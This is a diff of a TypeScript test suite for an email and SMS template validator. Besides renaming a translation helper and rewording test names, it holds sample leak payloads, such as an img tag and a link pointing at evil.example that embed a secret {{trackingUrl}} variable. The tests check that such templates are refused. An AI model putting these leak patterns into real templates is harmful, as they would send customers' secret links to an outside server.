@@ -7,7 +7,7 @@ import { renderEmailHtml, renderSms } from './render-template.js';
 import { emailTemplateSchema, smsTemplateSchema, templateTestSchema } from './template-schemas.js';
 import { emailTemplateTypes, smsTemplateTypes } from './template-types.js';
 import { misplacedVariable } from './variable-places.js';
-import { say } from '../i18n/message.js';
+import { translate } from '../i18n/message.js';
 
 const leaks = [
   '<img src="https://evil.example/p.png?{{trackingUrl}}">',
@@ -35,7 +35,7 @@ const leaks = [
 ];
 
 const saidIssues = (result: { error?: { issues: { path: PropertyKey[]; message: string }[] } }) =>
-  result.error?.issues.map(({ path, message }) => ({ path, message: say(message) }));
+  result.error?.issues.map(({ path, message }) => ({ path, message: translate(message) }));
 
 describe('a secret link in a template', () => {
   const saved = (content: string) =>
@@ -53,7 +53,7 @@ describe('a secret link in a template', () => {
     expect(saidIssues(saved(content))).toEqual([{ path: ['content'], message }]);
   });
 
-  it.each(leaks)('saved before, tells nobody: %s', (content) => {
+  it.each(leaks)('leaks to nobody from a template saved earlier: %s', (content) => {
     const { html } = renderEmailHtml('S', content, {
       trackingUrl: 'https://ours.example/track?key=SECRET',
       pdfUrl: 'https://ours.example/pdf?key=SECRET',
@@ -75,7 +75,7 @@ describe('a secret link in a template', () => {
     '<img src="https://a.example/logo.png" alt="{{businessName}}">',
     '<a href="https://a.example/?x=1">Shop</a> {{trackingUrl}}',
     '<p>5 < 6 {{trackingUrl}}</p>',
-  ])('may stand in %s', (content) => {
+  ])('is allowed in %s', (content) => {
     expect(saved(content).error?.issues).toBeUndefined();
     const values = { trackingUrl: 'T', pdfUrl: 'P', businessPhone: 'B', businessName: 'N' };
     expect(renderEmailHtml('S', content, values).html).toBe(
@@ -86,7 +86,7 @@ describe('a secret link in a template', () => {
     );
   });
 
-  it('is refused in a text message and in a message of the office, as a part of another address', () => {
+  it('is refused as part of another URL in a text message and in an office message', () => {
     const content = 'Hi https://evil.example/?x={{trackingUrl}}';
     const message = expect.stringContaining('secret link') as string;
     const template = { name: 'Mine', type: 'quote_ready_notification', content };
@@ -104,7 +104,7 @@ describe('a secret link in a template', () => {
     );
   });
 
-  it('stands in its place in every built-in template', () => {
+  it('is in the right place in every built-in template', () => {
     for (const language of locales) {
       for (const type of emailTemplateTypes)
         expect(misplacedVariable(defaultEmailTemplates[language][type].content)).toBeNull();
@@ -114,9 +114,9 @@ describe('a secret link in a template', () => {
   });
 });
 
-it('no variable stands in what a mail program loads', () => {
+it('refuses any variable in content that a mail program loads', () => {
   expect(
-    say(
+    translate(
       emailTemplateSchema.safeParse({
         name: 'M',
         type: 'custom_notification',
@@ -150,7 +150,7 @@ const piece = fc.constantFrom(
   ')',
 );
 
-it('tells no other server the link, however a template is put together', () => {
+it('never gives the link to another server, however a template is put together', () => {
   fc.assert(
     fc.property(
       fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join('')),
